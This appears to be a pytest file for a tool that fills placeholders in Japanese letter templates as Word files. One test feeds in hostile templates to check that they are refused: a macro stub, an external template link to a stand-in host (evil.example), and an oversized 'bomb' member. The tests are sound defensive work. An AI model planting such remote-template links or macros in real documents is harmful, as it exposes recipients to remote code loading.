"""Letters as Word files: placeholders checked, filled wherever Word has cut them, nothing hostile let in."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace

import pytest
from docx import Document

from hogo.paper import disk, word
from hogo.paper.letter import Addressee
from tests.paper.given import HARD, LETTER


def text_of(data: bytes) -> str:
    """Everything a reader reads, tables too."""
    opened = Document(io.BytesIO(data))
    found = [paragraph.text for paragraph in opened.paragraphs]
    return "\n".join([*found, *(cell.text for table in opened.tables for row in table.rows for cell in row.cells)])


def built(*paragraphs: list[str]) -> bytes:
    """A template of paragraphs, each cut into runs."""
    made = Document()
    for runs in paragraphs:
        line = made.add_paragraph()
        for run in runs:
            line.add_run(run)
    kept = io.BytesIO()
    made.save(kept)
    return kept.getvalue()


def repacked(data: bytes, **extra: bytes) -> bytes:
    """The same archive with members added or replaced."""
    kept = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(kept, "w") as new:
        for one in old.infolist():
            if one.filename not in extra:
                new.writestr(one, old.read(one))
        for name, content in extra.items():
            new.writestr(name, content)
    return kept.getvalue()


def test_our_own_template_is_in_order():
    """Nothing is found, and it holds every placeholder that is needed."""
    assert () == word.check(disk.word_template())


def test_a_letter_in_word_says_what_the_letter_says():
    """Each text of the letter stands in the file; no placeholder is left."""
    from hogo.paper.letter import texts

    said = text_of(word.fill(disk.word_template(), LETTER))
    assert [] == [one for one in texts(LETTER) if one and one not in said]
    assert "{{" not in said
    assert HARD in said


def test_the_same_letter_gives_the_same_bytes():
    """No clock in the archive."""
    template = disk.word_template()
    assert word.fill(template, LETTER) == word.fill(template, LETTER)


def test_a_placeholder_cut_by_word_is_still_one():
    """Word cuts text into runs at will; what stands around a placeholder stays."""
    template = built(["拝啓 {", "{宛", "名}", "} 様へ"])
    assert f"拝啓 {HARD} 様へ" in text_of(word.fill(template, LETTER))


def test_what_is_put_in_is_never_read_as_a_placeholder():
    """A person's name that looks like a placeholder stays a name."""
    letter = replace(LETTER, to=Addressee("{{件名}}"))
    said = text_of(word.fill(built(["{{宛名}}"]), letter))
    assert LETTER.title not in said
    assert "件名" in said


def test_faults_of_a_template_are_named():
    """Unknown, not alone, not closed, missing: each by its name, all at once."""
    template = built(["{{あて名}}"], ["こちら: {{本文}}"], ["{{件名}"])
    names = [found.name for found in word.check(template)]
    assert names.count("placeholder-missing") == 5
    assert {"unknown-placeholder", "block-not-alone", "unclosed-placeholder", "placeholder-missing"} == set(names)


@pytest.mark.parametrize(
    "hostile",
    [
        b"",
        b"PK\x03\x04 nothing",
        repacked(disk.word_template(), **{"word/vbaProject.bin": b"x"}),
        repacked(
            disk.word_template(),
            **{
                "word/_rels/settings.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                b'relationships"><Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://evil.example/t"'
                b' TargetMode="External"/></Relationships>'
            },
        ),
        repacked(disk.word_template(), **{"word/media/huge.bin": b"\0" * 21_000_000}),
    ],
    ids=["empty", "broken", "macros", "linked", "bomb"],
)
def test_a_hostile_template_is_refused(hostile):
    """It is said why, and nothing is filled."""
    assert ["no-template"] == [found.name for found in word.check(hostile)]
    with pytest.raises(word.NotATemplate):
        word.fill(hostile, LETTER)


def test_headers_and_footers_are_filled_where_they_are():
    """A placeholder at the foot is filled; a template without a footer gains none."""
    made = Document()
    made.sections[0].footer.paragraphs[0].add_run("{{番号}}")
    kept = io.BytesIO()
    made.save(kept)
    filled = Document(io.BytesIO(word.fill(kept.getvalue(), LETTER)))
    assert filled.sections[0].footer.paragraphs[0].text == LETTER.number
    bare = Document(io.BytesIO(word.fill(disk.word_template(), LETTER)))
    assert bare.sections[0].footer.is_linked_to_previous
